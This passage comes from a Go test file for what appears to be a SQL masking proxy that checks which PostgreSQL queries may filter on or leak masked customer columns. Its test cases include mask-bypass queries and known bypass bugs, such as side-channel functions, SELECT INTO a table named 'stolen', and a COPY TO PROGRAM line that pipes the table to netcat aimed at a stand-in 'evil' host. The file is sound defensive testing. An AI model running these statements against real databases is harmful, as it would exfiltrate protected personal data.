		{"SELECT o.id FROM orders o, generate_series(1, 3) i WHERE o.id = i", ""},
		{"SELECT o.id, row_number() OVER w FROM customers c JOIN orders o ON o.customer_id = c.id WINDOW w AS (PARTITION BY c.email ORDER BY o.id DESC)", ""},
		{"SELECT o.id FROM customers JOIN orders ON orders.customer_id = customers.id WHERE (email, name) = ('ada@example.com', 'Ada')", ""},
		{"SELECT o.id FROM customers JOIN orders ON orders.customer_id = customers.id WHERE 'Ada' IN (name, email)", ""},
		{"SELECT c.id FROM customers c WHERE c.email LIKE 'a%' AND c.id IN (SELECT customer_id FROM orders)", ""},
		{"SELECT c.id FROM customers c WHERE EXISTS (SELECT 1 FROM orders o WHERE o.customer_id = c.id AND c.email LIKE 'a%')", ""},
		{"SELECT id FROM customers ORDER BY email LIMIT 10 OFFSET 20", ""},
	}
	for _, c := range cases {
		s := classifyOne(t, c.sql)
		got := m.correlated(&s, l)
		switch {
		case c.refused == "" && got != "":
			t.Errorf("%s: refused: %s", c.sql, got)
		case c.refused != "" && !strings.Contains(got, c.refused):
			t.Errorf("%s: correlated = %q, want it to name %s", c.sql, got, c.refused)
		}
	}
}

// A mask's filters setting: with equality, a masked column may only be
// compared whole with values the statement gives; with none, not filtered
// by at all. Filters by other columns, and masks without the setting, are
// unaffected.
func TestMaskFilters(t *testing.T) {
	eq := compileMasks([]policy.Mask{
		{Columns: []string{"customers.email"}, Method: "partial", Filters: "equality"},
		{Columns: []string{"customers.card"}, Method: "redact", Filters: "none"},
		{Columns: []string{"customers.phone"}, Method: "redact"},
	})
	l := lineage{views: map[string]bool{"contacts": true}, kin: map[string][]string{"people": {"customers"}}}
	cases := []struct {
		sql     string
		refused string // the column named, "" when allowed
	}{
		{"SELECT email FROM customers WHERE email = 'a@example.com'", ""},
		{"SELECT email FROM customers WHERE email = $1", ""},
		{"SELECT email FROM customers WHERE $1 = email", ""},
		{"SELECT email FROM customers c WHERE c.email <> $1::text", ""},
		{"SELECT email FROM customers WHERE email IN ('a', $1)", ""},
		{"SELECT email FROM customers WHERE email NOT IN ('a', 'b')", ""},
		{"SELECT email FROM customers WHERE email = ANY($1)", ""},
		{"SELECT email FROM customers WHERE email = ANY(ARRAY['a', 'b'])", ""},
		{"SELECT email FROM customers WHERE email IS NOT DISTINCT FROM $1", ""},
		{"SELECT email FROM customers WHERE email IS NULL", ""},
		{"SELECT email FROM customers WHERE (email = $1) = false", ""},
		{"DELETE FROM customers WHERE email = $1", ""},
		{"SELECT email FROM customers WHERE id > 5 ORDER BY id", ""},
		{"SELECT email FROM customers WHERE phone LIKE '555%' ORDER BY phone", ""}, // no setting
		{"SELECT email FROM customers c JOIN orders o ON o.cid = c.id", ""},
		{"SELECT email FROM customers WHERE email LIKE 'a%'", "customers.email"},
		{"SELECT email FROM customers WHERE email ILIKE $1", "customers.email"},
		{"SELECT email FROM customers WHERE email > 'm'", "customers.email"},
		{"SELECT email FROM customers WHERE email BETWEEN 'a' AND 'b'", "customers.email"},
		{"SELECT email FROM customers WHERE lower(email) = 'a'", "customers.email"},
		{"SELECT email FROM customers WHERE email::citext = 'a'", "customers.email"},
		{"SELECT email FROM customers WHERE email = 'a'::citext", "customers.email"},
		{"SELECT email FROM customers WHERE email ~ '^a'", "customers.email"},
		{"SELECT email FROM customers WHERE email IN (SELECT note FROM orders)", "customers.email"},
		{"SELECT email FROM customers WHERE NULLIF(email, 'x') IS NULL", "customers.email"},
		{"SELECT email FROM customers ORDER BY email", "customers.email"},
		{"SELECT id, email FROM customers ORDER BY 2", "customers.email"},
		{"SELECT id, email FROM customers ORDER BY 1", ""},
		{"SELECT id, email AS e FROM customers ORDER BY e DESC", "customers.email"},
		{"SELECT email, count(*) FROM customers GROUP BY 1", "customers.email"},
		{"SELECT DISTINCT ON (1) email FROM customers", "customers.email"},
		{"SELECT DISTINCT email FROM customers", "customers.email"},
		{"SELECT DISTINCT id FROM customers", ""},
		{"SELECT id FROM customers ORDER BY 9", ""},
		// Ordinals past a * may name any of its columns.
		{"SELECT * FROM customers ORDER BY 3", "customers.*"},
		{"SELECT *, 1 FROM customers ORDER BY 3", "customers.*"},
		{"SELECT id, * FROM customers ORDER BY 4", "customers.*"},
		{"SELECT id, name, *, 1 FROM customers ORDER BY 5", "customers.*"},
		{"SELECT c.* FROM customers c ORDER BY 3", "customers (whole row)"},
		{"TABLE customers ORDER BY 3", "customers.*"},
		{"SELECT id, * FROM customers ORDER BY 1", ""},
		{"SELECT DISTINCT ON (3) * FROM customers", "customers.*"},
		// Grouping sets, rollups and cubes group by what they list.
		{"SELECT email, count(*) FROM customers GROUP BY GROUPING SETS ((1))", "customers.email"},
		{"SELECT email, count(*) FROM customers GROUP BY ROLLUP(1, 2)", "customers.email"},
		{"SELECT email AS e, count(*) FROM customers GROUP BY CUBE(e)", "customers.email"},
		{"SELECT email AS e, count(*) FROM customers GROUP BY GROUPING SETS ((e), ())", "customers.email"},
		{"SELECT id, count(*) FROM customers GROUP BY ROLLUP(id)", ""},
		// ON CONFLICT looks a value up, whole.
		{"INSERT INTO customers (id, email) VALUES (1, 'a') ON CONFLICT (email) DO NOTHING", ""},
		{"INSERT INTO customers (id, card) VALUES (1, 'a') ON CONFLICT (card) DO NOTHING RETURNING id", "customers.card"},
		// Values computed from what the statement gives.
		{"SELECT email FROM customers WHERE email = ANY(ARRAY['a', 'b']::text[])", ""},
		{"SELECT email FROM customers WHERE email = ANY(ARRAY[$1, $2]::text[])", ""},
		{"SELECT email FROM customers WHERE email = lower($1)", ""},
		{"SELECT email FROM customers WHERE email = ANY(string_to_array($1, ','))", ""},
		{"SELECT email FROM customers WHERE email = 'a' COLLATE \"C\"", "customers.email"},
		{"SELECT email FROM customers WHERE email = 'ALICE' COLLATE pg_temp.loose", "customers.email"},
		{"SELECT email FROM customers WHERE email = '1e9'::float4", "customers.email"},
		{"SELECT email FROM customers WHERE email = power($1, 1)", "customers.email"},
		{"SELECT email FROM customers WHERE email = upper(btrim($1)) || '@example.com'", ""},
		{"PREPARE p(float8) AS SELECT id FROM customers WHERE email = $1", "customers.email"},
		{"PREPARE p(text) AS SELECT id FROM customers WHERE email = $1", ""},
		{"PREPARE p(float4[]) AS SELECT id FROM customers WHERE email = ANY($1)", "customers.email"},
		{"PREPARE p(citext) AS SELECT id FROM customers WHERE email = $1", "customers.email"},
		{"PREPARE p(int, _text) AS SELECT id FROM customers WHERE id = $1 AND email = ANY($2)", ""},
		{"PREPARE p(int4) AS SELECT id FROM customers WHERE email = $1", "customers.email"}, // int4 may be the database's own
		{"SELECT 1 FROM customers WHERE lo_from_bytea(0, convert_to(email, 'UTF8')) IS NOT NULL", "customers"},
		{"SELECT 1 FROM customers ORDER BY lowrite(lo_open(1, 131072), convert_to(email, 'UTF8'))", "customers"},
		{"CREATE TABLE customers (id int, email text UNIQUE)", "customers.email"},
		{"SELECT email FROM customers WHERE email = $1::mytype", "customers.email"},
		{"SELECT email FROM customers WHERE email = lower(name)", "customers.email"},
		{"SELECT email FROM customers WHERE email = (SELECT 'a')", "customers.email"},
		{"SELECT email FROM customers WHERE email::char(1) = 'a'", "customers.email"},
		// An index on a masked column, and CLUSTER, order the table.
		{"CREATE INDEX i ON customers (email)", "customers.email"},
		{"CREATE UNIQUE INDEX i ON customers (id) INCLUDE (card)", ""}, // included columns do not order it
		{"CREATE INDEX i ON customers (id)", ""},
		{"ALTER TABLE customers ADD UNIQUE (card)", "customers.card"},
		{"ALTER TABLE customers ADD CONSTRAINT x EXCLUDE USING btree (email WITH =)", "customers.email"},
		{"PREPARE p(pg_catalog._float8) AS SELECT id FROM customers WHERE email = ANY($1::text[])", "customers.email"},
		{"SELECT id FROM customers WHERE email = ANY('{1.5}'::pg_catalog._float8)", "customers.email"},
		{"CLUSTER customers USING customers_email_key", "order of an index"},
		{"ALTER TABLE customers CLUSTER ON customers_email_key", "order of an index"},
		{"CLUSTER", "order of an index"},
		{"CLUSTER orders USING orders_pkey", ""},
		// A natural join counts against each side that is masked.
		{"SELECT email FROM customers c, orders o NATURAL JOIN notes n", ""},
		{"SELECT o.id FROM orders o NATURAL JOIN customers", "customers (whole row)"},
		{"SELECT count(*) FROM customers GROUP BY email", "customers.email"},
		{"SELECT DISTINCT ON (email) id FROM customers", "customers.email"},
		{"SELECT email, row_number() OVER (ORDER BY email) FROM customers", "customers.email"},
		{"SELECT email FROM customers a JOIN customers b ON a.email = b.email", "customers.email"},
		{"SELECT email FROM customers a JOIN customers b USING (email)", "customers.email"},
		{"SELECT a.id FROM customers a NATURAL JOIN orders b", "customers (whole row)"},
		{"SELECT a.id FROM customers a JOIN orders b USING (id)", ""},
		{"SELECT 1 FROM orders o WHERE EXISTS (SELECT 1 FROM customers c WHERE c.email LIKE 'a%')", "customers.email"},
		{"UPDATE customers SET phone = '1' WHERE email LIKE 'a%'", "customers.email"},
		{"SELECT email FROM customers WHERE CASE WHEN email LIKE 'a%' THEN true END", "customers.email"},
		{"SELECT email FROM customers WHERE card = $1", "customers.card"},
		{"SELECT email FROM customers WHERE card IS NULL", "customers.card"},
		{"SELECT email FROM customers c WHERE c::text LIKE '%@%'", "customers (whole row)"},
		{"SELECT email FROM customers c WHERE c.* IS NULL", "customers (whole row)"},
		// A parent's column goes by the masked column's name; a view's
		// columns are held to the strictest setting.
		{"SELECT email FROM people WHERE email LIKE 'a%'", "customers.email"},
		{"SELECT id FROM people WHERE id > 3", ""},
		{"SELECT contact FROM contacts WHERE contact = $1", "contacts.contact"},
		{"SELECT contact FROM contacts v WHERE v.id = 1", "contacts.id"},
	}
	for _, c := range cases {
		s := classifyOne(t, c.sql)
		got := eq.leak(&s, l)
		if got == "" {
			got = eq.filtered(&s, l)
		}
		switch {
		case c.refused == "" && got != "":
			t.Errorf("%s: refused: %s", c.sql, got)
		case c.refused != "" && !strings.Contains(got, c.refused):
			t.Errorf("%s: leak = %q, want it to name %s", c.sql, got, c.refused)
		}
	}
	// A Parse declaring a float parameter: the column would be rounded.
	s := classifyOne(t, "SELECT email FROM customers WHERE email = $1")
	s.lossyParams = true
	if got := eq.filtered(&s, l); !strings.Contains(got, "customers.email") {
		t.Errorf("a float parameter: %q", got)
	}
	for oid, want := range map[uint32]bool{25: false, 1043: false, 23: false, 700: true, 701: true, 1021: true, 1022: true, 16384: true, 90000: true} {
		if lossyParam(oid) != want {
			t.Errorf("lossyParam(%d) = %v", oid, !want)
		}
	}
	// Planner settings, while masks restrict filters.
	for sql, refused := range map[string]bool{
		"SET enable_seqscan = off":                             true,
		"SET LOCAL random_page_cost = 0.01":                    true,
		"SELECT set_config('enable_bitmapscan', 'off', false)": true,
		"SET statement_timeout = 5":                            false,
		"RESET ALL":                                            false,
		"RESET enable_seqscan":                                 false,
	} {
		s := classifyOne(t, sql)
		if got := eq.plannerChange(&s); (got != "") != refused {
			t.Errorf("%s: plannerChange = %q", sql, got)
		}
	}
	// Statements that differ only in an ordinal do not share a cached
	// classification: the number names the column.
	var c classifier
	for _, q := range []struct {
		sql     string
		refused bool
	}{
		{"SELECT id, email FROM customers ORDER BY 1", false},
		{"SELECT id, email FROM customers ORDER BY 2", true},
		{"SELECT DISTINCT ON (1) id, \"email\" FROM customers", false},
		{"SELECT DISTINCT ON (2) id, \"email\" FROM customers", true},
		{"SELECT id, email FROM customers ORDER BY 1", false},
		{"SELECT id, \"email\" FROM customers ORDER BY 1", false}, // the normalised text, not the fast key
		{"SELECT id, \"email\" FROM customers ORDER BY 2", true},
		{"SELECT id, email, count(*) FROM customers GROUP BY 1, 2 ORDER BY 1", true},
		{"SELECT id, email, count(*) FROM customers GROUP BY 1, 3 ORDER BY 1", false},
		{"SELECT id, email FROM customers GROUP BY ROLLUP(1, 2)", true},
		{"SELECT id, email FROM customers GROUP BY ROLLUP(1)", false},
		{"SELECT id, email FROM customers GROUP BY ROLLUP(2)", true},
	} {
		stmts, err := c.classify(context.Background(), q.sql)
		if err != nil {
			t.Fatal(err)
		}
		if got := eq.filtered(&stmts[0], l); (got != "") != q.refused {
			t.Errorf("%s (classifier): filtered = %q", q.sql, got)
		}
	}
	// Settings made for later sessions count as settings too.
	for _, sql := range []string{"ALTER ROLE CURRENT_USER SET enable_seqscan = off", "ALTER DATABASE d SET random_page_cost = 0.1", "ALTER FUNCTION f() SET enable_sort = off"} {
		s := classifyOne(t, sql)
		if got := eq.plannerChange(&s); got == "" {
			t.Errorf("%s: not a planner change", sql)
		}
	}
	// Defaults of later sessions are not this session's settings: corral
	// sets how the server reads statements at every login.
	if s := classifyOne(t, "ALTER ROLE r SET client_encoding = 'UTF8'"); syntaxChange(&s) != "" {
		t.Errorf("a role's default client_encoding: %q", syntaxChange(&s))
	}
	// Arithmetic may make a float.
	for _, sql := range []string{"SELECT id FROM customers WHERE email = 5 ^ 1", "SELECT id FROM customers WHERE email = |/ 2.25"} {
		s := classifyOne(t, sql)
		if got := eq.filtered(&s, l); got == "" {
			t.Errorf("%s: a lookup", sql)
		}
	}
	// A name masked in two tables, with different settings: the
	// strictest holds, whichever table the name is read from.
	two := compileMasks([]policy.Mask{
		{Columns: []string{"customers.email"}, Method: "partial"},
		{Columns: []string{"users.email"}, Method: "redact", Filters: "none"},
	})
	for i := 0; i < 20; i++ {
		s := classifyOne(t, "SELECT id FROM users WHERE email = $1")
		if got := two.filtered(&s, lineage{}); !strings.Contains(got, "users.email") {
			t.Fatalf("users.email under filters none: %q", got)
		}
		s = classifyOne(t, "SELECT id FROM customers WHERE email LIKE 'a%'")
		if got := two.filtered(&s, lineage{}); got != "" {
			t.Fatalf("customers.email, which sets no filters, refused for users.email's: %q", got)
		}
	}
	// An alias named like a masked column: PostgreSQL reads the bare name
	// as the column.
	for _, sql := range []string{
		"SELECT c.id FROM customers c CROSS JOIN orders AS email WHERE email LIKE 'a%'",
		"SELECT c.id FROM customers c CROSS JOIN orders AS card WHERE card = 'x'",
	} {
		s := classifyOne(t, sql)
		if got := eq.filtered(&s, l); got == "" {
			t.Errorf("%s: allowed", sql)
		}
	}
	if s := classifyOne(t, "SELECT lower(email) FROM customers c CROSS JOIN orders AS email"); eq.leak(&s, l) == "" {
		t.Error("an alias named like a masked column hid it in an expression")
	}
	// Without the setting, filters are allowed as before.
	plain := compileMasks([]policy.Mask{{Columns: []string{"customers.email"}, Method: "partial"}})
	for _, sql := range []string{"SELECT email FROM customers WHERE email LIKE 'a%'", "SELECT email FROM customers ORDER BY email"} {
		s := classifyOne(t, sql)
		if got := plain.leak(&s, l) + plain.filtered(&s, l); got != "" {
			t.Errorf("%s: refused without filters set: %s", sql, got)
		}
	}
}

func TestMaskLeakNamesTheColumn(t *testing.T) {
	m := compileMasks(leakMasks)
	for sql, want := range map[string]string{
		"SELECT lower(email) FROM customers":       "customers.email",
		"SELECT c FROM customers c":                "customers (whole row)",
		"COPY customers TO STDOUT":                 "customers (COPY ... TO)",
		"SELECT row_to_json(c.*) FROM customers c": "customers.*",
	} {
		s := classifyOne(t, sql)
		if got := m.leak(&s, lineage{}); got != want {
			t.Errorf("%s: leak = %q, want %q", sql, got, want)
		}
	}
}

// Known ways a masked column leaves unmasked with leak() saying nothing.
func TestMaskLeakKnownBugs(t *testing.T) {
	m := compileMasks(leakMasks)
	cases := []struct{ bug, sql string }{
		// One alias map for the whole statement: an alias reused in another
		// scope rebinds it, and the masked reference is attributed to the
		// other table. pg_class exists everywhere.
		{"alias shadowing", "SELECT (SELECT c.email FROM customers c LIMIT 1) FROM pg_class c"},
		{"alias shadowing", "SELECT (SELECT c FROM customers c LIMIT 1) FROM pg_class c"},
		{"alias shadowing", "SELECT (SELECT row_to_json(c.*) FROM customers c LIMIT 1) FROM pg_class c"},
		{"alias shadowing", "SELECT lower(x.e) FROM (SELECT c.email AS e FROM customers c) x, pg_class c"},
		// Column aliases in FROM rename masked columns (customers is
		// id, email, card).
		{"column alias list", "SELECT lower(e) FROM customers AS c(i, e)"},
		{"column alias list", "SELECT lower(c.id) FROM customers AS c(email, id)"},
		// The same, copying the values into another table, where no
		// result-side withholding can catch them afterwards.
		{"alias shadowing", "INSERT INTO notes (body) SELECT (SELECT c.email FROM customers c LIMIT 1) FROM pg_class c"},
		{"column alias list", "INSERT INTO notes (body) SELECT e FROM customers AS c(i, e)"},
		{"column alias list", "UPDATE notes SET body = e FROM customers AS c(i, e)"},
		// SELECT INTO writes the masked values into a new table, as
		// CREATE TABLE AS does (which is refused).
		{"SELECT INTO", "SELECT email INTO stolen FROM customers"},
		{"SELECT INTO", "SELECT * INTO stolen FROM customers"},
		// COPY of a masked table to a server file or program.
		{"COPY to file", "COPY customers TO '/tmp/customers.csv'"},
		{"COPY to file", "COPY customers TO PROGRAM 'nc evil 1'"},
		// Side effects and errors in "filter" positions return the value
		// by another way (verified on PostgreSQL 15).
		{"filter side effects", "SELECT 1 FROM customers WHERE pg_notify('ch', email) IS NULL"},
		{"filter side effects", "SELECT 1 FROM customers WHERE set_config('my.v', email, false) IS NOT NULL"},
		// The masked table is named in a string, or read through statistics.
		{"SQL in a string", "SELECT word FROM ts_stat('SELECT to_tsvector(email) FROM customers')"},
		{"SQL in a string", "SELECT query_to_xml('SELECT email FROM customers', true, false, '')"},
		{"SQL in a string", "SELECT table_to_xml('customers', true, false, '')"},
		{"statistics", "SELECT most_common_vals FROM pg_stats WHERE tablename = 'customers' AND attname = 'email'"},
	}
	for _, c := range cases {
		t.Run(c.sql, func(t *testing.T) {
			s := classifyOne(t, c.sql)
			if got := m.leak(&s, lineage{}); got == "" {
				knownBug(t, c.bug, "%s: leak() = \"\", want the masked column named", c.sql)
			}
		})
	}
}

// Operators are asked of the catalog wherever a statement names one: the
// database may define its own under PostgreSQL's names.
func TestClassifyOperators(t *testing.T) {
	for sql, want := range map[string]string{
		"SELECT id FROM customers WHERE email OPERATOR(s.=) 'x'":             "=",
		"SELECT 1 FROM customers WHERE email OPERATOR(s.=) ANY (SELECT 'x')": "=",
		"SELECT id FROM customers ORDER BY email USING OPERATOR(s.<)":        "<",
		"SELECT id FROM customers WHERE id = 1":                              "=",
		"SELECT id FROM customers WHERE email IN (SELECT 'x') AND id <> 2":   "<>",
		"SELECT CASE email WHEN 'x' THEN 1 END FROM customers":               "=",
		"SELECT 1 FROM customers JOIN orders USING (id)":                     "=",
		"SELECT 1 FROM customers NATURAL JOIN orders":                        "=",
	} {
		st := classifyOne(t, sql)
		if !slices.Contains(st.operators, want) {
			t.Errorf("%s: operators %q, want %q among them", sql, st.operators, want)
		}
	}
	if st := classifyOne(t, "SELECT 1 WHERE 1 OPERATOR(pg_catalog.=) 1"); len(st.operators) != 0 {
		t.Errorf("pg_catalog's own: %q", st.operators)
	}
}

// A trigger's function runs under statements that name it nowhere, so the
// trigger is what calls it.
func TestClassifyTriggerCallsItsFunction(t *testing.T) {
	st := classifyOne(t, "CREATE TRIGGER t BEFORE INSERT ON tt FOR EACH ROW EXECUTE FUNCTION pg_temp.copy_emails()")
	if !slices.Contains(st.Functions, "pg_temp.copy_emails") {
		t.Errorf("functions %q", st.Functions)
	}
}

// An operator, aggregate, cast or conversion runs the functions it is made
// of under statements that name only it: making it calls them.
func TestClassifyFunctionsBoundIntoObjects(t *testing.T) {
	for sql, want := range map[string]string{
		"CREATE OPERATOR ### (RIGHTARG = text, FUNCTION = pg_read_file)":                         "pg_read_file",
		"CREATE OPERATOR ### (LEFTARG = int, RIGHTARG = int, PROCEDURE = s.f, RESTRICT = eqsel)": "s.f",
		"CREATE AGGREGATE slurp(text) (SFUNC = pg_catalog.pg_read_file, STYPE = text)":           "pg_catalog.pg_read_file",
		"CREATE AGGREGATE a(int) (SFUNC = int4pl, STYPE = int, FINALFUNC = wipe)":                "wipe",
		"CREATE CAST (t1 AS t2) WITH FUNCTION conv(t1)":                                          "conv",
		"CREATE DEFAULT CONVERSION c FOR 'LATIN1' TO 'UTF8' FROM latin_conv":                     "latin_conv",
		"CREATE TYPE r AS RANGE (SUBTYPE = float8, SUBTYPE_DIFF = diff)":                         "diff",
		"ALTER OPERATOR ### (NONE, text) SET (RESTRICT = sel)":                                   "sel",
		"CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION audit_ddl()":               "audit_ddl",
		"CREATE AGGREGATE s1(bytea) (SFUNC1 = lo_from_bytea, STYPE1 = oid, INITCOND1 = '0')":     "lo_from_bytea",
		"CREATE AGGREGATE s2(int) (SFUNC = int4pl, STYPE = int, SOMEDAY_FUNC = later)":           "later",
	} {
		st := classifyOne(t, sql)
		if !slices.Contains(st.Functions, want) {
			t.Errorf("%s: functions %q, want %q among them", sql, st.Functions, want)
		}
	}
	st := classifyOne(t, "CREATE OPERATOR ### (RIGHTARG = text, FUNCTION = pg_read_file)")
	if !slices.Contains(st.Ops, "function") {
		t.Errorf("an operator over pg_read_file: operations %q", st.Ops)
	}
	if st := classifyOne(t, "CREATE AGGREGATE a(int) (SFUNC = int4pl, STYPE = int)"); slices.Contains(st.Ops, "function") {
		t.Errorf("an aggregate over PostgreSQL's int4pl: operations %q", st.Ops)
	}
	// Options naming types and operators name no function.
	st = classifyOne(t, "CREATE OPERATOR === (LEFTARG = int, RIGHTARG = int, FUNCTION = int4eq, COMMUTATOR = ===, NEGATOR = !==)")
	if slices.ContainsFunc(st.Functions, func(f string) bool { return f == "int" || strings.Contains(f, "=") }) {
		t.Errorf("functions %q", st.Functions)
	}
}

// What classification holds grows with the statement, not with its
// square: an item naming an output column notes that column once, an
// alias repeated names its relation once, and joins nested under aliases
// past what the text accounts for are refused.
func TestClassifyWorkGrowsWithTheStatement(t *testing.T) {
	list := func(item string, n int) string { return strings.TrimSuffix(strings.Repeat(item+",", n), ",") }
	for name, shape := range map[string]func(n int) string{
		"ORDER BY names":      func(n int) string { return "SELECT " + list("a e", n) + " FROM t ORDER BY " + list("e", n) },
		"ordinals after *":    func(n int) string { return "SELECT *," + list("a", n) + " FROM t ORDER BY " + list("1", n) },
		"GROUP BY names":      func(n int) string { return "SELECT " + list("a e", n) + " FROM t GROUP BY " + list("e", n) },
		"DISTINCT ON (names)": func(n int) string { return "SELECT DISTINCT ON (" + list("e", n) + ") " + list("a e", n) + " FROM t" },
	} {
		refs := func(n int) int {
			stmts, err := Classify(shape(n))
			if err != nil {
				t.Fatal(name, err)
			}
			return len(stmts[0].refs)
		}
		if a, b := refs(200), refs(400); b > 2*a+8 {
			t.Errorf("%s: %d column references at 200 items, %d at 400", name, a, b)
		}
	}

	stmts, err := Classify("SELECT j.email FROM customers" + strings.Repeat(", t j", 500) + strings.Repeat(" JOIN t USING (x) AS u", 500))
	if err != nil {
		t.Fatal(err)
	}
	if n, m := len(stmts[0].aliases["j"]), len(stmts[0].aliases["u"]); n != 1 || m != 1 {
		t.Errorf("a repeated alias names %d, %d relations; want each once", n, m)
	}
	chain := func(n int) string {
		var b strings.Builder
		b.WriteString("SELECT 1 FROM t0")
		for i := 1; i <= n; i++ {
			fmt.Fprintf(&b, " JOIN t%d USING (x) AS j%d", i, i)
		}
		return b.String()
	}
	if _, err := Classify(chain(100)); err != nil {
		t.Errorf("100 aliased joins: %v", err)
	}
	if _, err := Classify(chain(3000)); !errors.Is(err, errIntricate) {
		t.Errorf("3000 aliased joins nested: %v", err)
	}
}
